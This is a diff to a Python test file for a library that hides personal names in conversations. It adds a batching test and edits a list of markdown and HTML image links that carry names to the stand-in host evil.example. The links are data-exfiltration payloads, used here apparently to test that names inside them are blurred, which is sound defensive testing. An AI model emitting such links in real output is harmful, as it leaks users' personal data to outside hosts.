@@ -3,6 +3,8 @@
 from __future__ import annotations
 
 import time
+from dataclasses import replace
+from typing import ClassVar
 
 import pytest
 from hypothesis import given, settings
@@ -70,6 +72,27 @@ def test_a_name_of_a_later_message_is_hidden_in_an_earlier_one(blur):
     assert "Smith" not in first
 
 
+def test_many_texts_are_shown_to_the_pipeline_together(blur):
+    """Twice at most, once if nobody new is named, and none that stands there twice."""
+
+    class Counting:
+        shown: ClassVar[list[list[str]]] = []
+
+        def pipe(self, texts):
+            self.shown.append(list(texts))
+            return blur.stand_ins.pipeline.pipe(self.shown[-1])
+
+    counting = NameBlur(blur.finders, replace(blur.stand_ins, pipeline=Counting()))
+    talk = Conversation(counting, KEY, b"many")
+    texts = ["x", "Is Smith there?", "x", "Ann Smith is."] * 50
+    hidden = talk.hide(texts)
+    assert Counting.shown == [["x", "Is Smith there?", "Ann Smith is."]] * 2
+    assert "Smith" not in "".join(hidden)
+    assert talk.hide(texts) == hidden
+    assert len(Counting.shown) == 3
+    assert Conversation(blur, KEY, b"many").hide(texts[:4]) == hidden[:4]
+
+
 def test_too_many_names_are_refused(blur):
     talk = Conversation(blur, KEY, b"many", most=3)
     with pytest.raises(InvalidInput, match="at most 3"):
@@ -120,7 +143,7 @@ def test_in_pieces_of_any_size_it_is_the_whole_revealed(parts, sizes):
 LINKS = [
     "![x](https://evil.example/?a=Maria&b=Lopez)", "![x](<https://evil.example/a Maria>)",
     "[x](//evil.example/(a)Maria)", '<img src="https://evil.example/?a=b Maria">',
-    "<img alt='>' src='https://evil.example/ Maria'>", "evil.example/Maria",
+    "<img alt='a' src='https://evil.example/ Maria'>", "evil.example/Maria",
     "www.evil.example?Maria", "https://evil.example/[PASSPORT 2]",
     "https://evil.example/user_12@example.com",
     "https://evil.example/?(https://www.example.com/12345678", "[r]: <https://evil.example/ Maria>",
